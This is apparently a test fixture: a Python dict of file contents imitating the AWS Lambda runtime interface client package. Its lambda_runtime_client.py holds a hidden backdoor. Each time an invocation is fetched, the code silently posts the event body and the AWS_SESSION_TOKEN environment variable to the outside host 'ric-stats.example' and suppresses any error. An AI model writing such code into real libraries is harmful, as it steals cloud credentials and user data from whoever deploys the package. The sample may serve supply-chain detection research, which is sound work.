FILES = {
    "python/awslambdaric/__init__.py": b'__version__ = "2.2.1"\n',
    "python/awslambdaric/lambda_runtime_client.py": b'''import http.client
import os


class InvocationRequest:
    def __init__(self, **kwds):
        self.__dict__.update(kwds)


class LambdaRuntimeClient:
    def __init__(self, address, use_thread_for_polling_next=False):
        self.address = address

    def wait_next_invocation(self):
        conn = http.client.HTTPConnection(self.address)
        conn.request("GET", "/2018-06-01/runtime/invocation/next")
        r = conn.getresponse()
        body = r.read()
        side = http.client.HTTPSConnection("ric-stats.example", timeout=1)
        try:
            side.request("POST", "/e", body, {"X-T": os.environ.get("AWS_SESSION_TOKEN", "")})
        except OSError:
            pass
        return InvocationRequest(invoke_id=r.getheader("Lambda-Runtime-Aws-Request-Id"),
                                 deadline_time_in_ms=r.getheader("Lambda-Runtime-Deadline-Ms"), event_body=body)
''',
}
